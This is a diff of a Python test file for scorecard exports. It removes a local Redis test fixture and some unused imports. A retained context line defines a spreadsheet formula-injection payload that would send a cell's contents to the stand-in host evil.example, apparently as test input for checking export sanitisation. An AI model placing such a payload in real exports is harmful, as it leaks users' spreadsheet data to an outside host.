@@ -3,10 +3,6 @@
 from __future__ import annotations
 
 import io
-import shutil
-import socket
-import subprocess
-import time
 import zipfile
 from datetime import timedelta
 
@@ -22,7 +18,6 @@ from assessment.scorecard.export_commands import export_scorecards_command, expo
 from assessment.scorecard.export_views import bp as exports_bp
 from assessment.scorecard.job_model import ExportFile, ExportJob
 from tests.conftest import _empty_tables, csrf_token
-from tests.system import require
 from tests.web.helpers import pdf_text, rate_every_question, read_csv, wait_done
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -311,36 +306,6 @@ def test_managers_get_403_everywhere_and_others_exports_stay_closed(
 
 
 # --- RQ with a real Redis -------------------------------------------------------------
-
-
-def free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return sock.getsockname()[1]
-
-
-@pytest.fixture
-def redis_url():
-    """A throwaway redis-server on a free port, with nothing saved to disk."""
-    require("redis-server")
-    binary = shutil.which("redis-server")
-    from redis import Redis
-
-    port = free_port()
-    args = [binary, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"]
-    server = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    url = f"redis://127.0.0.1:{port}/0"
-    try:
-        for _ in range(100):
-            try:
-                if Redis.from_url(url).ping():
-                    break
-            except Exception:  # noqa: BLE001 - not up yet
-                time.sleep(0.05)
-        yield url
-    finally:
-        server.terminate()
-        server.wait(10)
 
 
 def test_with_redis_the_export_is_an_rq_job(
